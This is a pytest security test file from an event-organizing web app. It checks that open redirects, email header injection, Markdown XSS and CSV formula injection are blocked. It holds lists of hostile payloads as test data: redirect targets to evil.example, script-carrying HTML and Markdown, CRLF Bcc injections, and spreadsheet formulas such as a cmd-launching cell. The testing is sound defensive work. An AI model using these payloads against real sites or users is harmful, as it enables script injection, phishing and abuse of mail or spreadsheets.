"""Injection: no open redirect (next=, the language links), no email header injection (names,
titles and subjects with CR/LF), Markdown that cannot carry script, CSV cells that cannot run
as formulas. Login's next= has its own list in test_auth_login.py; this adds the other ways."""

from __future__ import annotations

import csv
import html
import io
import re
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import func, select

from organizer import markdown
from organizer.email import build_email
from organizer.extensions import db
from organizer.models import Signup

from . import factories
from .conftest import csrf_token
from .test_auth_login import HOSTILE_NEXT

EXTRA_HOSTILE_NEXT = [
    "/\\/evil.example",
    "/%5Cevil.example",  # stays a path here: the browser sees %5C, not a backslash
    "\\/evil.example",
    "https:/\\evil.example",
    "//evil.example@localhost",
    "vbscript:msgbox(1)",
    "/\r\n/evil.example",
    "\u3002evil.example",
    "／／evil.example",  # full-width solidus
]
MORE_HOSTILE_NEXT = [*HOSTILE_NEXT, *EXTRA_HOSTILE_NEXT]


def assert_stays_on_site(location: str) -> None:
    """Where a browser would go: this site's own paths only."""
    normalized = location.replace("\\", "/")
    parts = urlsplit(normalized)
    assert parts.scheme in ("", "http") and parts.netloc in ("", "localhost"), location
    assert parts.path.startswith("/") and not normalized.startswith("//"), location
    assert "evil" not in parts.netloc and not re.match(r"\s*[a-z]+:", normalized[:12].lower())


# ---- open redirects -------------------------------------------------------------------------


@pytest.mark.parametrize("target", MORE_HOSTILE_NEXT)
def test_register_next_never_leaves_the_site(client, target):
    token = csrf_token(client, "/auth/register")
    response = client.post(
        "/auth/register?next=" + quote(target, safe=""),
        data={
            "name": "Noa",
            "email": "noa@example.org",
            "password": "a long enough passphrase",
            "confirm": "a long enough passphrase",
            "csrf_token": token,
        },
    )
    assert response.status_code == 302
    assert_stays_on_site(response.headers["Location"])


@pytest.mark.parametrize("target", EXTRA_HOSTILE_NEXT)  # the others: test_auth_login.py
def test_login_next_never_leaves_the_site(client, target):
    user = factories.make_user()
    token = csrf_token(client, "/auth/login")
    response = client.post(
        "/auth/login",
        data={
            "email": user.email,
            "password": factories.PASSWORD,
            "next": target,
            "csrf_token": token,
        },
    )
    assert response.status_code == 302
    assert_stays_on_site(response.headers["Location"])


def _language_links(page: str) -> list[str]:
    return [
        html.unescape(href) for href in re.findall(r'<a href="([^"]*)"[^>]*hreflang="[a-z]+"', page)
    ]


@pytest.mark.parametrize(
    "path",
    [
        "/%5Cevil.example",
        "/%5C%5Cevil.example",
        "/%2F%2Fevil.example",
        "/events/%5C%5Cevil.example",
        "/%09/evil.example",
    ],
)
def test_language_links_stay_on_the_page_whatever_its_address(client, path):
    """A crafted address (a 404 page) must not turn the language links into off-site links:
    browsers read a backslash in a link as a slash, so "/\\evil" would lead to //evil."""
    response = client.get(path + "?q=1&next=https://evil.example")
    links = _language_links(response.get_data(as_text=True))
    assert len(links) == 3, path
    for link in links:
        assert "\\" not in link and not link.startswith("//"), link
        assert_stays_on_site(link)
        assert "next=https" not in link or "next=https%3A%2F%2F" in link  # a value, not a URL


def test_language_links_keep_the_filters(client):
    links = _language_links(client.get("/events/?region=jerusalem").get_data(as_text=True))
    assert "/events/?region=jerusalem&lang=he" in links


# ---- email headers ------------------------------------------------------------------------------

CRLF_NAME = "Dana\r\nBcc: victim@evil.example"


def assert_one_clean_recipient(message, address: str) -> None:
    assert message["X-Envelope-To"] == address
    assert message["Bcc"] is None and message["Cc"] is None
    assert message["To"] == address
    for name, value in message.items():
        assert "\r" not in value and "\n" not in value, name
        assert "evil.example" not in value or name == "Subject", (name, value)


def test_a_volunteer_name_with_crlf_cannot_add_recipients(client, post_form, mailbox):
    event = factories.make_event()
    response = post_form(
        f"/events/{event.id}/signup",
        {"name": CRLF_NAME, "email": "dana@example.org"},
        page=f"/events/{event.id}",
    )
    assert response.status_code == 200
    (message,) = mailbox.wait_for(1)
    time_limit = mailbox.wait_for(2, timeout=0.3)
    assert len(time_limit) == 1
    assert_one_clean_recipient(message, "dana@example.org")
    stored = db.session.scalar(select(Signup.name))
    assert "\r" not in stored and "\n" not in stored


@pytest.mark.parametrize(
    "email",
    [
        "dana@example.org\r\nBcc: victim@evil.example",
        "dana@example.org\nBcc: victim@evil.example",
        "dana@example.org, victim@evil.example",
        "Dana <dana@example.org>",
        "dana@example.org%0d%0abcc:victim@evil.example",
    ],
)
def test_an_address_with_extra_headers_or_recipients_is_refused(client, post_form, mailbox, email):
    event = factories.make_event()
    response = post_form(
        f"/events/{event.id}/signup",
        {"name": "Dana", "email": email},
        page=f"/events/{event.id}",
    )
    assert response.status_code == 400
    assert "valid email address" in response.text
    assert db.session.scalar(select(func.count()).select_from(Signup)) == 0
    assert mailbox.wait_for(1, timeout=0.3) == []


def test_a_title_with_crlf_stays_inside_the_subject(client, post_form, mailbox):
    """Forms keep titles on one line; a row written some other way (an import, an old bug)
    still cannot split the headers of the emails that quote it."""
    event = factories.make_event(title="Vigil\r\nBcc: victim@evil.example\r\n\r\nbody")
    post_form(
        f"/events/{event.id}/signup",
        {"name": "Dana", "email": "dana@example.org"},
        page=f"/events/{event.id}",
    )
    (message,) = mailbox.wait_for(1)
    assert_one_clean_recipient(message, "dana@example.org")
    assert "Bcc: victim" in message["Subject"]  # as text, on the subject's one line


def test_the_mail_layer_flattens_any_subject(app):
    with app.test_request_context():
        message = build_email(
            "v@example.org",
            "test_message",
            "en",
            subject="Hello\r\nBcc: victim@evil.example\nX-Evil: 1\rTo: more@evil.example",
        )
        raw = message.message().as_string()
    headers = raw.split("\n\n", 1)[0]
    assert not re.search(r"^(Bcc|X-Evil|To: more)", headers, re.M | re.I)
    assert message.recipients() == ["v@example.org"]


# ---- Markdown ---------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.org "t" onclick=alert(1))',
    '[x](https://example.org" onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[click][x]",
    '<https://example.org/" onmouseover="alert(1)>',
]

ALLOWED_SCHEMES = {"http", "https", "mailto"}


class Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in markdown.ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if tag != "a" or name not in {"href", "title", "rel"}:
                self.problems.append(f"<{tag} {name}>")
            if name == "href":
                # What a browser takes for the scheme: controls and spaces dropped; anything
                # else before the colon (such as "java%09script") makes it a relative path.
                cleaned = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
                if scheme and scheme.group(1) not in ALLOWED_SCHEMES:
                    self.problems.append(f"href={value!r}")

    handle_startendtag = handle_starttag


def problems_in(rendered: str) -> list[str]:
    checker = Checker()
    checker.feed(rendered)
    return checker.problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_markdown_output_carries_no_script(payload):
    assert problems_in(markdown.render_markdown(payload)) == []
    assert problems_in(markdown.render_markdown(f"Join us.\n\n{payload}\n\n**Bring water**")) == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_nh3_holds_even_if_markdown_let_html_through(monkeypatch, payload):
    """The sanitizer is the wall, not the Markdown parser's html=False: with raw HTML let
    through, the output is still clean."""
    monkeypatch.setattr(markdown, "_md", MarkdownIt("commonmark", {"html": True}))
    assert problems_in(markdown.render_markdown(payload)) == []


def test_ordinary_markdown_still_works():
    rendered = markdown.render_markdown(
        "## Plan\n\n**Bring** [water](https://example.org/a?b=1&c=2) and [mail](mailto:a@b.org)"
    )
    assert "<h3>Plan</h3>" in rendered and "<strong>Bring</strong>" in rendered
    assert 'href="https://example.org/a?b=1&amp;c=2"' in rendered
    assert 'rel="nofollow noopener noreferrer"' in rendered and 'href="mailto:a@b.org"' in rendered


def test_an_action_page_shows_hostile_markdown_as_text(client):
    payload = "\n\n".join(XSS_PAYLOADS)
    event = factories.make_event(description_md=payload)
    page = client.get(f"/events/{event.id}").get_data(as_text=True)
    body = page.split("<main", 1)[1]
    assert "<script>alert" not in body
    assert problems_in_page(body) == []


def problems_in_page(markup: str) -> list[str]:
    """Inline handlers or script URLs anywhere on a page (the layout's own tags are fine)."""
    found = []
    for match in re.finditer(r"<([a-z0-9]+)\b([^>]*)>", markup, re.I):
        attrs = match.group(2)
        if re.search(r"\son[a-z]+\s*=", attrs, re.I):
            found.append(match.group(0))
        if re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|vbscript|data):", attrs, re.I):
            found.append(match.group(0))
        if match.group(1).lower() in {"iframe", "object", "embed", "base", "meta"} and (
            "evil" in attrs or "javascript" in attrs
        ):
            found.append(match.group(0))
    return found


# ---- CSV export ------------------------------------------------------------------------------

FORMULAS = ["=1+2", "+972501111111", "-2+3", "@SUM(A1)", "\tTab", "\r=cmd", "=cmd|' /C calc'!A0"]


def test_every_csv_cell_is_safe_from_formula_injection(client, auth):
    owner = factories.make_user()
    org = factories.make_org(owner=owner)
    event = factories.make_event(org)
    shift = factories.make_shift(event, name='=HYPERLINK("http://evil.example","x")')
    for n, value in enumerate(FORMULAS):
        factories.make_signup(
            event,
            "confirmed",
            name=value,
            email=f"=x{n}@example.org",
            phone=value,
            shift_id=shift.id,
        )
    auth.login(owner)
    raw = client.get(f"/events/{event.id}/roster.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = sorted(row[0] for row in rows)
    assert names == sorted("'" + value for value in FORMULAS)
    assert {row[3] for row in rows} == {"'" + shift.name}
    assert all(row[1].startswith("'=x") for row in rows)
